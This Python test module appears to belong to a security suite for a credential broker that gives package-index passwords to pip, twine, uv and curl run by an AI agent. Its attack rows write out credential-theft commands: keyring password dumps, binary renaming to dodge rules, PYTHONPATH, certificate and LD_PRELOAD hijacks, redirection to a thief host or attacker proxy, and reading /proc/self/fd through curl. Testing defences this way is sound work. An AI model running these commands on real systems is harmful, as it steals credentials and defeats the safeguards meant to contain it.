"""Attacks on what the clients of package indexes are given, all of one enrolment, and on ``run --with``."""

import base64
import contextlib
from collections.abc import Iterator

from tests.e2e.attacks.tool_attacks import THIEF, Attack, asks, elsewhere, genuine, renamed, rows, setting, told_to_show
from tests.e2e.clients import pip, run_with, twine, uv
from tests.e2e.clients.package_index import indexes, names, served
from tests.e2e.clients.python_tools import install, version_of
from tests.e2e.clients.row import Client, Stand
from tests.e2e.clients.world import Clients

_WHOEVER_RUNS_IT = "no rule for the agent; a token that opens little"


@contextlib.contextmanager
def _stand(clients: Clients) -> Iterator[Stand]:
    """One index, with its password in the files of all three."""
    with indexes(clients) as (first, second):
        login = f"alice:{first.password}@{first.host}"
        clients.write(".pypirc", twine.pypirc({"first": first}))
        clients.write(".config/pip/pip.conf", f"[global]\nindex-url = http://{login}/simple\n")
        clients.write(".config/uv/uv.toml", f'index-url = "http://{login}/simple"\n')
        given = names(clients, first, second)
        shown = base64.b64encode(f"alice:{first.password}".encode()).decode()
        yield Stand("keyring", version_of("keyring"), given, (first.password, shown), served(first, second), ())


_CLIENT = Client(
    "keyring",
    _stand,
    twine.RULES,
    (),
    ("--binary", "{bin}/pip", "--binary", "{bin}/twine", "--binary", "{bin}/uv"),
    prepare=install,
)
_UPLOAD = f"{{bin}}/twine {twine.OPTIONS}"
_FETCH = f"rm -rf fetched; {{bin}}/pip {pip.OPTIONS}"
_INSTALL = f"rm -rf fetched; {{bin}}/uv {uv.OPTIONS}"
_LIBRARY = 'import keyring; print(keyring.get_password("{first}/legacy/", "alice"))'

KEYRING = rows(
    _CLIENT,
    asks("keyring get {first}/simple --mode creds; keyring get {first}/legacy/ alice"),
    Attack(
        "library",
        "the library of {name}, in the interpreter that twine has, is asked by a script",
        f"echo '{_LIBRARY}' > {{loot}}/own.py; {{bin}}/python {{loot}}/own.py",
        mitre="T1555",
    ),
)
TWINE = rows(
    _CLIENT,
    renamed(f"sed 1p {{bin}}/twine > ~/twine; chmod +x ~/twine; ~/twine {twine.OPTIONS} -r first {{wheel}}"),
    setting("PYTHONPATH is the attacker's", {"PYTHONPATH": "{programs}"}, use=f"{_UPLOAD} -r first {{wheel}}"),
    elsewhere(f"{_UPLOAD} --repository-url $at/legacy/ -u alice {{wheel}}", thief="{first}"),
    genuine(f"{_UPLOAD} -r first {{wheel}}"),
    name="twine",
)
PIP = rows(
    _CLIENT,
    renamed(f"cp {{bin}}/pip ~/pip; rm -rf fetched; ~/pip {pip.OPTIONS}"),
    setting("PIP_CERT is the attacker's", {"PIP_CERT": "{code}"}, use=_FETCH),
    elsewhere(f"{_FETCH} --index-url http://alice@${{at#http://}}/simple", thief="{first}"),
    told_to_show(
        "the agent's tool runs pip with the attacker's proxy, at an index without TLS",
        THIEF.replace("{url}", "{first}") + f"{_FETCH} --proxy $at; kill $thief",
        f"an index with TLS; {_WHOEVER_RUNS_IT}",
        name="proxy",
    ),
    genuine(_FETCH),
    name="pip",
)
UV = rows(
    _CLIENT,
    renamed(f"cp {{bin}}/uv ~/uv; rm -rf fetched; ~/uv {uv.OPTIONS}"),
    setting("SSL_CERT_FILE is the attacker's", {"SSL_CERT_FILE": "{code}"}, use=_INSTALL),
    elsewhere(f"{_INSTALL} --index-url http://alice@${{at#http://}}/simple", thief="{first}"),
    genuine(_INSTALL),
    name="uv",
)

_GET = "curl -sSo /dev/null {first}/simple/nothing/"
_LAUNCH = f"{{launcher}} index -- /usr/bin/{_GET}"
RUN = rows(
    run_with.CURL,
    asks("{shim} run index -- /usr/bin/curl"),
    renamed(f"cp {{launcher}} ~/agent-broker-run && ~/agent-broker-run index -- /usr/bin/{_GET}"),
    setting(
        "LD_PRELOAD is the attacker's",
        {},
        use=f"env LD_PRELOAD={{programs}}/given.so {_LAUNCH}",
    ),
    Attack(
        "other-program",
        "the secret of curl is wanted for another program",
        "cp /usr/bin/curl ~/curl; {run} --with index -- ~/curl {first}; {run} --with index -- env",
        mitre="T1552.007",
        alert=False,
    ),
    elsewhere("{run} --with index -- curl -sS http://localhost:{port}/simple/nothing/"),
    told_to_show(
        "the agent's tool has curl print the file that it is given",
        "{run} --with index -- curl -sS file:///proc/self/fd/3 file:///proc/self/fd/4 file:///proc/self/fd/5",
        f"nothing: a program that is given a secret has it; {_WHOEVER_RUNS_IT}",
    ),
    genuine(f"{{run}} --with index -- {_GET}"),
    what="agent-broker run",
)

ROWS = (*KEYRING, *TWINE, *PIP, *UV, *RUN)
